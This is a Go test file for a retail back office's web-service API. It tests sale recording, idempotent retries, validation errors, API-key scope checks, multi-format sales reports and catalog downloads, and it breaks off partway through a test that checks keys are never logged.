package webservices_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/google/uuid"
	"github.com/xuri/excelize/v2"

	"backroom/app/apptest"
	"backroom/app/linemath"
	"backroom/app/money"
	"backroom/app/pricing"
	"backroom/app/webservices"
	"backroom/models"
)

// env is a demo app with an admin token and the S001 store.
type env struct {
	*apptest.App
	admin string
	store models.Store
}

func setup(t *testing.T) *env {
	t.Helper()
	app := apptest.NewDemo(t)
	e := &env{App: app, admin: app.Login("admin", "1234")}
	if err := app.DB.Take(&e.store, "code = ?", "S001").Error; err != nil {
		t.Fatal(err)
	}
	return e
}

// key makes an API key through the key API (storeID nil: every store).
func (e *env) key(t *testing.T, storeID *uuid.UUID, scopes ...string) string {
	t.Helper()
	body := map[string]any{"name": fmt.Sprintf("tool %d", time.Now().UnixNano()), "scopes": scopes}
	if storeID != nil {
		body["storeId"] = storeID.String()
	}
	var k struct {
		Key string `json:"key"`
	}
	e.Do("POST", "/api/v1/integrations/api-keys", body, e.admin).Expect(t, http.StatusCreated).Data(t, &k)
	return k.Key
}

// call sends a web-service request with an API key and extra headers (name, value, …).
func (e *env) call(t *testing.T, method, path, key string, body any, headers ...string) *apptest.Response {
	t.Helper()
	var rd io.Reader
	switch b := body.(type) {
	case nil:
	case string:
		rd = strings.NewReader(b)
	default:
		buf, err := json.Marshal(b)
		if err != nil {
			t.Fatal(err)
		}
		rd = bytes.NewReader(buf)
	}
	req, err := http.NewRequest(method, e.URL+path, rd)
	if err != nil {
		t.Fatal(err)
	}
	if rd != nil {
		req.Header.Set("Content-Type", "application/json")
	}
	if key != "" {
		req.Header.Set("X-Api-Key", key)
	}
	for i := 0; i+1 < len(headers); i += 2 {
		req.Header.Set(headers[i], headers[i+1])
	}
	return e.Send(req)
}

// stocked returns n active products with a barcode, a tax group and opening stock at the store.
func (e *env) stocked(t *testing.T, n int) []models.Product {
	t.Helper()
	var ps []models.Product
	err := e.DB.Raw(`SELECT p.* FROM products p JOIN inventory_levels l ON l.product_id = p.id AND l.store_id = ?
		WHERE p.is_active AND p.deleted_at IS NULL AND p.barcode IS NOT NULL AND p.tax_group_id IS NOT NULL AND p.track_stock
		  AND l.quantity >= 10000
		  AND EXISTS (SELECT 1 FROM tax_group_rates gr JOIN tax_rates r ON r.id = gr.tax_rate_id WHERE gr.tax_group_id = p.tax_group_id AND r.rate > 0)
		ORDER BY p.sku LIMIT ?`, e.store.ID, n).Scan(&ps).Error
	if err != nil || len(ps) < n {
		t.Fatalf("demo products with stock: %d, %v", len(ps), err)
	}
	return ps
}

func (e *env) level(t *testing.T, productID uuid.UUID) int64 {
	t.Helper()
	var q int64
	e.DB.Raw(`SELECT coalesce((SELECT quantity FROM inventory_levels WHERE store_id = ? AND product_id = ?), 0)`, e.store.ID, productID).Scan(&q)
	return q
}

// expected works a line out the way the rules say: the resolved price unless given, the
// product's tax group, linemath.
func (e *env) expected(t *testing.T, at time.Time, lines []struct {
	p     models.Product
	qty   int64
	price *int64
}) linemath.Totals {
	t.Helper()
	ctx := context.Background()
	var ls []linemath.Line
	for _, l := range lines {
		price := int64(0)
		if l.price != nil {
			price = *l.price
		} else {
			p, _, err := pricing.Resolve(ctx, e.DB, e.store.ID, l.p.ID, at)
			if err != nil {
				t.Fatal(err)
			}
			price = p
		}
		rates, err := models.ProductTaxRates(ctx, e.DB, l.p)
		if err != nil {
			t.Fatal(err)
		}
		var taxes []linemath.Tax
		for _, r := range rates {
			taxes = append(taxes, linemath.Tax{Name: r.Name, Rate: r.Rate, Compound: r.IsCompound, SortOrder: r.SortOrder})
		}
		ls = append(ls, linemath.Line{Quantity: l.qty, UnitPrice: price, Taxes: taxes})
	}
	tot, err := linemath.ComputeSale(ls)
	if err != nil {
		t.Fatal(err)
	}
	return tot
}

type saleOut struct {
	ID            string `json:"id"`
	ReceiptNumber string `json:"receiptNumber"`
	StoreID       string `json:"storeId"`
	CustomerID    string `json:"customerId"`
	CashierID     string `json:"cashierId"`
	Subtotal      int64  `json:"subtotal"`
	TaxTotal      int64  `json:"taxTotal"`
	GrandTotal    int64  `json:"grandTotal"`
	PaidTotal     int64  `json:"paidTotal"`
	SoldAt        time.Time
	Items         []struct {
		ProductID string `json:"productId"`
		Quantity  int64  `json:"quantity"`
		UnitPrice int64  `json:"unitPrice"`
		TaxAmount int64  `json:"taxAmount"`
		LineTotal int64  `json:"lineTotal"`
	} `json:"items"`
	Payments []struct {
		Method string `json:"method"`
		Amount int64  `json:"amount"`
	} `json:"payments"`
}

func ptr(v int64) *int64 { return &v }

func TestRecordSaleBySkuBarcodeAndID(t *testing.T) {
	e := setup(t)
	key := e.key(t, &e.store.ID, models.ScopeSalesWrite)
	ps := e.stocked(t, 3)
	before := []int64{e.level(t, ps[0].ID), e.level(t, ps[1].ID), e.level(t, ps[2].ID)}
	at := time.Now().Add(-time.Hour).Truncate(time.Second)
	body := fmt.Sprintf(`{
		"paymentMethodId": "card",
		"userId": "cashier",
		"customer": {"name": "Mary Ann Smith", "email": "mary@example.com", "phone": "555 0177"},
		"date": %d,
		"items": [
			{"sku": %q, "quantity": 2},
			{"barcode": %q, "quantity": "1.5", "unitPrice": 499},
			{"productId": %q, "quantity": 1.5}
		]}`, at.Unix(), strings.ToLower(ps[0].SKU), *ps[1].Barcode, ps[2].ID)
	sales0, customers0 := e.Count("sales", ""), e.Count("customers", "")

	first := e.call(t, "POST", "/ws/v1/sales", key, body, "Idempotency-Key", "order-1001").Expect(t, http.StatusCreated)
	var s saleOut
	first.Data(t, &s)
	want := e.expected(t, at, []struct {
		p     models.Product
		qty   int64
		price *int64
	}{{ps[0], 2000, nil}, {ps[1], 1500, ptr(499)}, {ps[2], 1500, nil}})
	if s.Subtotal != want.Subtotal || s.TaxTotal != want.TaxTotal || s.GrandTotal != want.GrandTotal || s.PaidTotal != want.GrandTotal {
		t.Fatalf("totals = %d/%d/%d paid %d, linemath says %d/%d/%d", s.Subtotal, s.TaxTotal, s.GrandTotal, s.PaidTotal, want.Subtotal, want.TaxTotal, want.GrandTotal)
	}
	if want.TaxTotal == 0 {
		t.Fatal("demo products carry no tax: the test proves nothing about taxes")
	}
	for i, it := range s.Items {
		if it.ProductID != ps[i].ID.String() || it.LineTotal != want.Lines[i].Total || it.TaxAmount != want.Lines[i].TaxTotal {
			t.Fatalf("line %d = %+v, want product %s total %d tax %d", i, it, ps[i].SKU, want.Lines[i].Total, want.Lines[i].TaxTotal)
		}
	}
	if s.Items[1].UnitPrice != 499 || s.Items[1].Quantity != 1500 || s.Items[2].Quantity != 1500 {
		t.Fatalf("quantities/prices: %+v", s.Items)
	}
	if len(s.Payments) != 1 || s.Payments[0].Method != "CARD" || s.Payments[0].Amount != want.GrandTotal {
		t.Fatalf("payments = %+v", s.Payments)
	}
	day := at.In(e.store.Location()).Format("20060102")
	if s.ReceiptNumber != "WS-"+day+"-0001" || s.StoreID != e.store.ID.String() || !s.SoldAt.Equal(at) {
		t.Fatalf("receipt %s store %s soldAt %s", s.ReceiptNumber, s.StoreID, s.SoldAt)
	}
	var cashier models.User
	e.DB.Take(&cashier, "username = ?", "cashier")
	if s.CashierID != cashier.ID.String() {
		t.Fatalf("cashier = %s, want %s", s.CashierID, cashier.ID)
	}
	var cust models.Customer
	if err := e.DB.Take(&cust, "id = ?", s.CustomerID).Error; err != nil || cust.FirstName != "Mary Ann" || cust.LastName != "Smith" || cust.Email != "mary@example.com" {
		t.Fatalf("customer = %+v, %v", cust, err)
	}
	for i, q := range []int64{2000, 1500, 1500} {
		if got := e.level(t, ps[i].ID); got != before[i]-q {
			t.Fatalf("stock of %s = %d, want %d", ps[i].SKU, got, before[i]-q)
		}
	}
	if n := e.Count("inventory_movements", "reference_id = ?", s.ID); n != 3 {
		t.Fatalf("movements = %d, want 3", n)
	}

	// A retry (reformatted, same JSON) answers the first sale and records nothing.
	var compact bytes.Buffer
	json.Compact(&compact, []byte(body))
	again := e.call(t, "POST", "/ws/v1/sales", key, compact.String(), "Idempotency-Key", "order-1001").Expect(t, http.StatusCreated)
	if !bytes.Equal(again.Body, first.Body) || again.Header.Get("Idempotent-Replayed") != "true" {
		t.Fatalf("replay differs:\n%s\n%s", first.Body, again.Body)
	}
	if e.Count("sales", "") != sales0+1 || e.Count("customers", "") != customers0+1 {
		t.Fatal("the retry recorded something")
	}
	for i, q := range []int64{2000, 1500, 1500} {
		if got := e.level(t, ps[i].ID); got != before[i]-q {
			t.Fatalf("stock moved again on the retry")
		}
	}
	// The same key with another body is a conflict.
	other := strings.Replace(body, `"quantity": 2}`, `"quantity": 3}`, 1)
	e.call(t, "POST", "/ws/v1/sales", key, other, "Idempotency-Key", "order-1001").Expect(t, http.StatusConflict)
	if e.Count("sales", "") != sales0+1 {
		t.Fatal("a conflicting request recorded a sale")
	}
	// The same Idempotency-Key under another API key is another sale; the customer is matched by email.
	key2 := e.key(t, &e.store.ID, models.ScopeSalesWrite)
	var s2 saleOut
	e.call(t, "POST", "/ws/v1/sales", key2, other, "Idempotency-Key", "order-1001").Expect(t, http.StatusCreated).Data(t, &s2)
	if s2.ReceiptNumber != "WS-"+day+"-0002" || s2.CustomerID != s.CustomerID || e.Count("customers", "") != customers0+1 {
		t.Fatalf("second sale %s customer %s (first %s)", s2.ReceiptNumber, s2.CustomerID, s.CustomerID)
	}
	if n := e.Count("ws_idempotency_keys", ""); n != 2 {
		t.Fatalf("idempotency rows = %d, want 2", n)
	}
}

func TestRecordSaleDefaultsAndRefusals(t *testing.T) {
	e := setup(t)
	key := e.key(t, &e.store.ID, models.ScopeSalesWrite)
	p := e.stocked(t, 1)[0]
	// Only what is required: the price is the store's now, the date now, payment in cash.
	var s saleOut
	e.call(t, "POST", "/ws/v1/sales", key, map[string]any{"paymentMethodId": "CASH", "items": []any{map[string]any{"sku": p.SKU, "quantity": 1}}}).
		Expect(t, http.StatusCreated).Data(t, &s)
	price, _, _ := pricing.Resolve(context.Background(), e.DB, e.store.ID, p.ID, time.Now())
	if s.Items[0].UnitPrice != price || time.Since(s.SoldAt) > time.Minute || s.CustomerID != "" || s.CashierID != "" {
		t.Fatalf("defaults: %+v", s)
	}
	var cash models.Tender
	e.DB.Take(&cash, "code = ?", "CASH")
	// A tender id works as well as its code; customerId takes a customer code.
	var cust models.Customer
	e.DB.Order("code").Take(&cust)
	var s2 saleOut
	e.call(t, "POST", "/ws/v1/sales", key, map[string]any{"paymentMethodId": cash.ID.String(), "customerId": cust.Code, "items": []any{map[string]any{"productId": p.ID, "quantity": "0.25"}}}).
		Expect(t, http.StatusCreated).Data(t, &s2)
	if s2.CustomerID != cust.ID.String() || s2.Items[0].Quantity != 250 {
		t.Fatalf("by tender id: %+v", s2)
	}
	// Contact details without an email match a customer by the phone's digits.
	var carlos models.Customer
	e.DB.Take(&carlos, "code = ?", "CUST-00002")
	var s3 saleOut
	e.call(t, "POST", "/ws/v1/sales", key, map[string]any{"paymentMethodId": "CASH", "customer": map[string]any{"name": "C. Diaz", "phone": "(555) " + strings.TrimPrefix(carlos.Phone, "555-")},
		"items": []any{map[string]any{"sku": p.SKU, "quantity": 1}}}).Expect(t, http.StatusCreated).Data(t, &s3)
	if carlos.Phone == "" || s3.CustomerID != carlos.ID.String() {
		t.Fatalf("phone match: customer %s, want %s (%s)", s3.CustomerID, carlos.ID, carlos.Phone)
	}
	count := e.Count("sales", "")

	item := func(m map[string]any) []any { return []any{m} }
	cases := []struct {
		name  string
		body  any
		field string
	}{
		{"no payment method", map[string]any{"items": item(map[string]any{"sku": p.SKU, "quantity": 1})}, "paymentMethodId"},
		{"unknown payment method", map[string]any{"paymentMethodId": "GOLD", "items": item(map[string]any{"sku": p.SKU, "quantity": 1})}, "paymentMethodId"},
		{"no items", map[string]any{"paymentMethodId": "CASH", "items": []any{}}, "items"},
		{"unknown sku", map[string]any{"paymentMethodId": "CASH", "items": []any{map[string]any{"sku": p.SKU, "quantity": 1}, map[string]any{"sku": "NOPE-404", "quantity": 1}}}, "items[1]"},
		{"unknown barcode", map[string]any{"paymentMethodId": "CASH", "items": item(map[string]any{"barcode": "000", "quantity": 1})}, "items[0]"},
		{"bad product id", map[string]any{"paymentMethodId": "CASH", "items": item(map[string]any{"productId": "x", "quantity": 1})}, "items[0].productId"},
		{"no product", map[string]any{"paymentMethodId": "CASH", "items": item(map[string]any{"quantity": 1})}, "items[0]"},
		{"four decimals", map[string]any{"paymentMethodId": "CASH", "items": item(map[string]any{"sku": p.SKU, "quantity": json.Number("1.2345")})}, "items[0].quantity"},
		{"zero quantity", map[string]any{"paymentMethodId": "CASH", "items": item(map[string]any{"sku": p.SKU, "quantity": 0})}, "items[0].quantity"},
		{"exponent", map[string]any{"paymentMethodId": "CASH", "items": item(map[string]any{"sku": p.SKU, "quantity": json.Number("1e3")})}, "items[0].quantity"},
		{"no quantity", map[string]any{"paymentMethodId": "CASH", "items": item(map[string]any{"sku": p.SKU})}, "items[0].quantity"},
		{"fractional cents", map[string]any{"paymentMethodId": "CASH", "items": item(map[string]any{"sku": p.SKU, "quantity": 1, "unitPrice": 12.5})}, "items[0].unitPrice"},
		{"negative price", map[string]any{"paymentMethodId": "CASH", "items": item(map[string]any{"sku": p.SKU, "quantity": 1, "unitPrice": -1})}, "items[0].unitPrice"},
		{"future date", map[string]any{"paymentMethodId": "CASH", "date": time.Now().Add(time.Hour).Unix(), "items": item(map[string]any{"sku": p.SKU, "quantity": 1})}, "date"},
		{"bad date", map[string]any{"paymentMethodId": "CASH", "date": "yesterday", "items": item(map[string]any{"sku": p.SKU, "quantity": 1})}, "date"},
		{"unknown user", map[string]any{"paymentMethodId": "CASH", "userId": "nobody", "items": item(map[string]any{"sku": p.SKU, "quantity": 1})}, "userId"},
		{"unknown customer", map[string]any{"paymentMethodId": "CASH", "customerId": "CUST-99999", "items": item(map[string]any{"sku": p.SKU, "quantity": 1})}, "customerId"},
		{"one-word new customer", map[string]any{"paymentMethodId": "CASH", "customer": map[string]any{"name": "Cher", "email": "cher@example.com"}, "items": item(map[string]any{"sku": p.SKU, "quantity": 1})}, "customer.name"},
		{"bad customer email", map[string]any{"paymentMethodId": "CASH", "customer": map[string]any{"name": "A B", "email": "not-an-email"}, "items": item(map[string]any{"sku": p.SKU, "quantity": 1})}, "customer.email"},
		{"items not a list", map[string]any{"paymentMethodId": "CASH", "items": "x"}, "items"},
	}
	for _, c := range cases {
		res := e.call(t, "POST", "/ws/v1/sales", key, c.body)
		if res.Code != http.StatusUnprocessableEntity {
			t.Fatalf("%s: status %d, want 422: %s", c.name, res.Code, res.Body)
		}
		if env := res.Env(t); len(env.Errors[c.field]) == 0 {
			t.Fatalf("%s: errors %v do not name %s", c.name, env.Errors, c.field)
		}
	}
	e.call(t, "POST", "/ws/v1/sales", key, `{"items": [`).Expect(t, http.StatusBadRequest)
	e.call(t, "POST", "/ws/v1/sales", key, ``).Expect(t, http.StatusBadRequest)
	// A key for every store cannot say where a sale happened.
	hq := e.key(t, nil, models.ScopeSalesWrite)
	res := e.call(t, "POST", "/ws/v1/sales", hq, map[string]any{"paymentMethodId": "CASH", "items": item(map[string]any{"sku": p.SKU, "quantity": 1})}).Expect(t, http.StatusUnprocessableEntity)
	if len(res.Env(t).Errors["storeId"]) == 0 {
		t.Fatalf("storeless key: %s", res.Body)
	}
	if e.Count("sales", "") != count || e.Count("customers", "email = ?", "cher@example.com") != 0 {
		t.Fatal("a refused request wrote something")
	}
}

// Every web service answers 401 to a missing, wrong or revoked key and 403 to a key without its
// scope.
func TestEveryServiceNeedsItsKeyAndScope(t *testing.T) {
	e := setup(t)
	sale := `{"paymentMethodId":"CASH","items":[{"sku":"X","quantity":1}]}`
	services := []struct {
		method, path, scope string
		body                any
	}{
		{"POST", "/ws/v1/sales", models.ScopeSalesWrite, sale},
		{"GET", "/ws/v1/reports/sales?date=2024-03-15&format=csv", models.ScopeReportsRead, nil},
	}
	for _, list := range webservices.CatalogLists {
		for _, f := range webservices.CatalogFormatNames {
			services = append(services, struct {
				method, path, scope string
				body                any
			}{"GET", "/ws/v1/catalog/" + list + "?format=" + f, models.ScopeCatalogRead, nil})
		}
	}
	for _, f := range webservices.ReportFormatNames {
		services = append(services, struct {
			method, path, scope string
			body                any
		}{"GET", "/ws/v1/reports/sales?date=2024-03-15&format=" + f, models.ScopeReportsRead, nil})
	}
	all := e.key(t, &e.store.ID, models.ScopeSalesWrite, models.ScopeReportsRead, models.ScopeCatalogRead)
	var revokedID string
	var k struct {
		ID  string `json:"id"`
		Key string `json:"key"`
	}
	e.Do("POST", "/api/v1/integrations/api-keys", map[string]any{"name": "old", "storeId": e.store.ID, "scopes": models.APIScopes}, e.admin).Expect(t, http.StatusCreated).Data(t, &k)
	revokedID = k.ID
	e.Do("DELETE", "/api/v1/integrations/api-keys/"+revokedID, nil, e.admin).Expect(t, http.StatusOK)
	wrong := all[:len(all)-4] + "zzzz"
	for _, s := range services {
		for _, bad := range []string{"", wrong, "not-a-key", k.Key} {
			res := e.call(t, s.method, s.path, bad, s.body)
			if res.Code != http.StatusUnauthorized || res.Env(t).Success {
				t.Fatalf("%s %s with key %q: %d %s, want 401", s.method, s.path, bad, res.Code, res.Body)
			}
		}
		// Any other scope is not enough.
		for _, other := range models.APIScopes {
			if other == s.scope {
				continue
			}
			res := e.call(t, s.method, s.path, e.key(t, &e.store.ID, other), s.body)
			if res.Code != http.StatusForbidden {
				t.Fatalf("%s %s with scope %s: %d, want 403", s.method, s.path, other, res.Code)
			}
		}
		if res := e.call(t, s.method, s.path, all, s.body); res.Code == http.StatusUnauthorized || res.Code == http.StatusForbidden {
			t.Fatalf("%s %s with the right key: %d %s", s.method, s.path, res.Code, res.Body)
		}
	}
	e.call(t, "GET", "/ws/v1/catalog/prices?format=csv", all, nil).Expect(t, http.StatusNotFound)
	e.call(t, "GET", "/ws/v1/catalog/products?format=xml", all, nil).Expect(t, http.StatusUnprocessableEntity)
}

var pdfPage = regexp.MustCompile(`/Type\s*/Page[^s]`)

// sellMany records n sales at the store through the web service at hour:minute of day.
func (e *env) sellMany(t *testing.T, key string, day time.Time, n int, ps []models.Product) []saleOut {
	t.Helper()
	var out []saleOut
	for i := range n {
		at := day.Add(time.Duration(9*60+i) * time.Minute)
		items := []any{map[string]any{"sku": ps[i%len(ps)].SKU, "quantity": json.Number(money.FormatQty(int64(1000 + 500*(i%3))))}}
		if i%2 == 1 {
			items = append(items, map[string]any{"barcode": *ps[(i+1)%len(ps)].Barcode, "quantity": 1, "unitPrice": 250})
		}
		tender := "CASH"
		if i%3 == 2 {
			tender = "CARD"
		}
		var s saleOut
		e.call(t, "POST", "/ws/v1/sales", key, map[string]any{"paymentMethodId": tender, "date": at.Unix(), "items": items}).
			Expect(t, http.StatusCreated).Data(t, &s)
		out = append(out, s)
	}
	return out
}

func TestSalesReportEveryFormat(t *testing.T) {
	e := setup(t)
	sell := e.key(t, &e.store.ID, models.ScopeSalesWrite)
	rep := e.key(t, &e.store.ID, models.ScopeReportsRead)
	loc := e.store.Location()
	y, m, d := time.Now().In(loc).AddDate(0, 0, -2).Date()
	day := time.Date(y, m, d, 0, 0, 0, 0, loc)
	date := day.Format("2006-01-02")
	ps := e.stocked(t, 4)
	sold := e.sellMany(t, sell, day, 5, ps)
	// A sale the day after and one at another store stay out of the report.
	e.sellMany(t, sell, day.AddDate(0, 0, 1), 1, ps)
	var s2 models.Store
	e.DB.Take(&s2, "code = ?", "S002")
	e.sellMany(t, e.key(t, &s2.ID, models.ScopeSalesWrite), day, 1, ps)
	// One sale voided: listed, not counted.
	e.Do("PUT", "/api/v1/sales/"+sold[4].ID+"/void", map[string]string{"reason": "test"}, e.admin).Expect(t, http.StatusOK)
	var want struct{ sub, tax, total int64 }
	for _, s := range sold[:4] {
		want.sub += s.Subtotal
		want.tax += s.TaxTotal
		want.total += s.GrandTotal
	}
	get := func(format string) *apptest.Response {
		res := e.call(t, "GET", "/ws/v1/reports/sales?date="+date+"&format="+format, rep, nil).Expect(t, http.StatusOK)
		if ct := res.Header.Get("Content-Type"); ct != webservices.ReportFormats[format] {
			t.Fatalf("%s content type %q", format, ct)
		}
		if cd := res.Header.Get("Content-Disposition"); !strings.Contains(cd, `filename=sales-S001-`+date+`.`+format) {
			t.Fatalf("%s content disposition %q", format, cd)
		}
		return res
	}

	// CSV: header, one row per sale, totals.
	rows, err := csv.NewReader(bytes.NewReader(get("csv").Body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != len(sold)+2 || rows[0][0] != "Receipt" {
		t.Fatalf("csv rows = %d (%v), want %d", len(rows), rows[0], len(sold)+2)
	}
	for i, s := range sold {
		if rows[i+1][0] != s.ReceiptNumber || rows[i+1][7] != money.Decimal(s.GrandTotal) {
			t.Fatalf("csv row %d = %v, want %s %s", i, rows[i+1], s.ReceiptNumber, money.Decimal(s.GrandTotal))
		}
	}
	if rows[5][2] != "voided" || rows[1][2] != "completed" || !strings.HasPrefix(rows[1][8], "CASH ") {
		t.Fatalf("csv statuses/tenders: %v %v", rows[5], rows[1])
	}
	tot := rows[len(rows)-1]
	if tot[0] != "TOTAL" || tot[2] != "4 sales" || tot[4] != money.Decimal(want.sub) || tot[6] != money.Decimal(want.tax) || tot[7] != money.Decimal(want.total) {
		t.Fatalf("csv totals %v, want %d/%d/%d", tot, want.sub, want.tax, want.total)
	}

	// HTML: a standalone page with every receipt.
	page := get("html").String()
	for _, s := range sold {
		if !strings.Contains(page, s.ReceiptNumber) {
			t.Fatalf("html lacks %s", s.ReceiptNumber)
		}
	}
	if !strings.HasPrefix(page, "<!doctype html>") || !strings.Contains(page, money.Decimal(want.total)) {
		t.Fatal("html is not a page with the total")
	}

	// XML.
	var x webservices.XMLReport
	if err := xml.Unmarshal(get("xml").Body, &x); err != nil {
		t.Fatal(err)
	}
	if x.Date != date || x.Store != "S001" || len(x.Sales) != len(sold) || x.Totals.Sales != 4 ||
		x.Totals.Total != money.Decimal(want.total) || x.Totals.Tax != money.Decimal(want.tax) || x.Sales[4].Status != "voided" {
		t.Fatalf("xml = %+v", x)
	}
	var tenders int64
	for _, tn := range x.Totals.Tenders {
		v, _ := money.Parse(tn.Amount)
		tenders += v
	}
	if tenders != want.total {
		t.Fatalf("xml tenders add to %d, want %d", tenders, want.total)
	}

	// XLSX.
	f, err := excelize.OpenReader(bytes.NewReader(get("xlsx").Body))
	if err != nil {
		t.Fatal(err)
	}
	xr, err := f.GetRows("Sales")
	if err != nil {
		t.Fatal(err)
	}
	if len(xr) != len(sold)+2 || xr[1][0] != sold[0].ReceiptNumber {
		t.Fatalf("xlsx rows = %d, first %v", len(xr), xr[1])
	}
	last := len(sold) + 2
	totalCell, _ := f.GetCellValue("Sales", fmt.Sprintf("H%d", last), excelize.Options{RawCellValue: true})
	taxCell, _ := f.GetCellValue("Sales", fmt.Sprintf("G%d", last), excelize.Options{RawCellValue: true})
	if c, _ := money.Parse(totalCell); c != want.total {
		t.Fatalf("xlsx total %q, want %s", totalCell, money.Decimal(want.total))
	}
	if c, _ := money.Parse(taxCell); c != want.tax {
		t.Fatalf("xlsx tax %q, want %s", taxCell, money.Decimal(want.tax))
	}
	if typ, _ := f.GetCellType("Sales", "H2"); typ != excelize.CellTypeNumber && typ != excelize.CellTypeUnset {
		t.Fatalf("xlsx money cell type %v, want a number", typ)
	}

	// PDF.
	pdf := get("pdf").Body
	if !bytes.HasPrefix(pdf, []byte("%PDF-")) || len(pdfPage.FindAll(pdf, -1)) != 1 {
		t.Fatalf("pdf: header %q, pages %d", pdf[:8], len(pdfPage.FindAll(pdf, -1)))
	}

	// Bad queries.
	for _, q := range []string{"date=2024-13-01&format=csv", "date=yesterday&format=csv", "format=csv", "date=" + date + "&format=doc", "date=" + date} {
		res := e.call(t, "GET", "/ws/v1/reports/sales?"+q, rep, nil).Expect(t, http.StatusUnprocessableEntity)
		if env := res.Env(t); len(env.Errors) == 0 {
			t.Fatalf("%s: %s", q, res.Body)
		}
	}
	// A key for every store gets every store, with a store column.
	all := e.key(t, nil, models.ScopeReportsRead)
	res := e.call(t, "GET", "/ws/v1/reports/sales?date="+date+"&format=csv", all, nil).Expect(t, http.StatusOK)
	rows, _ = csv.NewReader(bytes.NewReader(res.Body)).ReadAll()
	if rows[0][0] != "Store" || len(rows) != len(sold)+1+2 || !strings.Contains(res.Header.Get("Content-Disposition"), "sales-all-stores-") {
		t.Fatalf("all-stores report: %v", rows)
	}
}

// A long day's PDF spans pages and repeats the column header on each.
func TestSalesReportPDFPages(t *testing.T) {
	e := setup(t)
	sell := e.key(t, &e.store.ID, models.ScopeSalesWrite)
	rep := e.key(t, &e.store.ID, models.ScopeReportsRead)
	loc := e.store.Location()
	y, m, d := time.Now().In(loc).AddDate(0, 0, -3).Date()
	day := time.Date(y, m, d, 0, 0, 0, 0, loc)
	sold := e.sellMany(t, sell, day, 45, e.stocked(t, 3))
	res := e.call(t, "GET", "/ws/v1/reports/sales?date="+day.Format("2006-01-02")+"&format=pdf", rep, nil).Expect(t, http.StatusOK)
	pages := len(pdfPage.FindAll(res.Body, -1))
	if !bytes.HasPrefix(res.Body, []byte("%PDF-")) || pages < 2 {
		t.Fatalf("pdf of %d sales has %d pages", len(sold), pages)
	}
	// Empty day: still a valid one-page document.
	res = e.call(t, "GET", "/ws/v1/reports/sales?date=2001-01-01&format=pdf", rep, nil).Expect(t, http.StatusOK)
	if n := len(pdfPage.FindAll(res.Body, -1)); n != 1 {
		t.Fatalf("empty day pages = %d", n)
	}
	res = e.call(t, "GET", "/ws/v1/reports/sales?date=2001-01-01&format=csv", rep, nil).Expect(t, http.StatusOK)
	if rows, _ := csv.NewReader(bytes.NewReader(res.Body)).ReadAll(); len(rows) != 2 {
		t.Fatalf("empty day csv rows = %d", len(rows))
	}
}

func TestCatalogDownloads(t *testing.T) {
	e := setup(t)
	key := e.key(t, &e.store.ID, models.ScopeCatalogRead)
	counts := map[string]int64{
		"products":    e.Count("products", "is_active AND deleted_at IS NULL"),
		"departments": e.Count("departments", "is_active"),
		"customers":   e.Count("customers", "is_active"),
		"suppliers":   e.Count("suppliers", "is_active"),
	}
	if counts["products"] < 100 || counts["customers"] == 0 || counts["suppliers"] == 0 || counts["departments"] == 0 {
		t.Fatalf("demo data too small: %v", counts)
	}
	// A store price at S001 shows in the S001 key's download.
	p := e.stocked(t, 1)[0]
	e.Do("POST", "/api/v1/store-prices", map[string]any{"storeId": e.store.ID, "productId": p.ID, "price": p.SellPrice + 111}, e.admin).Expect(t, http.StatusOK)
	storePrice, _, _ := pricing.Resolve(context.Background(), e.DB, e.store.ID, p.ID, time.Now())
	for list, n := range counts {
		res := e.call(t, "GET", "/ws/v1/catalog/"+list+"?format=json", key, nil).Expect(t, http.StatusOK)
		env := res.Env(t)
		var rows []map[string]any
		if err := json.Unmarshal(env.Data, &rows); err != nil || int64(len(rows)) != n || env.Total == nil || *env.Total != n {
			t.Fatalf("%s json: %d rows (total %v), want %d: %v", list, len(rows), env.Total, n, err)
		}
		csvRes := e.call(t, "GET", "/ws/v1/catalog/"+list+"?format=csv", key, nil).Expect(t, http.StatusOK)
		recs, err := csv.NewReader(bytes.NewReader(csvRes.Body)).ReadAll()
		if err != nil || int64(len(recs)) != n+1 || recs[0][0] != "id" {
			t.Fatalf("%s csv: %d records, want %d: %v", list, len(recs), n+1, err)
		}
		if cd := csvRes.Header.Get("Content-Disposition"); !strings.Contains(cd, "filename="+list+".csv") || !strings.HasPrefix(csvRes.Header.Get("Content-Type"), "text/csv") {
			t.Fatalf("%s csv headers %v", list, csvRes.Header)
		}
		page := e.call(t, "GET", "/ws/v1/catalog/"+list+"?format=html", key, nil).Expect(t, http.StatusOK).String()
		if got := int64(strings.Count(page, "<tr>")); got != n+1 || !strings.Contains(page, "</html>") {
			t.Fatalf("%s html: %d rows, want %d", list, got, n+1)
		}
		if list == "products" {
			if strings.Contains(res.String(), "cost") || strings.Contains(strings.ToLower(recs[0][len(recs[0])-1]+strings.Join(recs[0], ",")), "cost") {
				t.Fatal("the cost price left Backroom")
			}
			for _, r := range rows {
				if r["id"] == p.ID.String() {
					if int64(r["price"].(float64)) != storePrice || r["barcode"] != *p.Barcode || r["taxGroup"] == "" {
						t.Fatalf("product row %v, want price %d", r, storePrice)
					}
				}
			}
		}
		if list == "departments" {
			withParent := e.Count("departments", "is_active AND parent_id IS NOT NULL")
			var got int64
			for _, r := range rows {
				if r["parentId"] != nil && r["parentName"] != nil {
					got++
				}
			}
			if got != withParent {
				t.Fatalf("departments with parent = %d, want %d", got, withParent)
			}
		}
	}
}

// The key never lands in the database (only its hash) nor in the logs, whatever the request.
func TestKeysNeverStoredOrLogged(t *testing.T) {
	e := setup(t)
	logs := apptest.CaptureLogs(t)
	key := e.key(t, &e.store.ID, models.APIScopes...)
	p := e.stocked(t, 1)[0]
	e.call(t, "POST", "/ws/v1/sales", key, map[string]any{"paymentMethodId": "CASH", "customer": map[string]any{"name": "Log Test", "email": "log@example.com"},
		"items": []any{map[string]any{"sku": p.SKU, "quantity": 1}}}, "Idempotency-Key", "log-1").Expect(t, http.StatusCreated)
	e.call(t, "POST", "/ws/v1/sales", key, `{"items": 1}`).Expect(t, http.StatusUnprocessableEntity)
	e.call(t, "GET", "/ws/v1/reports/sales?date=2024-01-01&format=xlsx", key, nil).Expect(t, http.StatusOK)
	e.call(t, "GET", "/ws/v1/catalog/customers?format=json", key, nil).Expect(t, http.StatusOK)
	e.call(t, "GET", "/ws/v1/catalog/customers?format=json", key+"x", nil).Expect(t, http.StatusUnauthorized)
	if strings.Contains(logs.String(), key) {
		t.Fatal("the API key was logged")
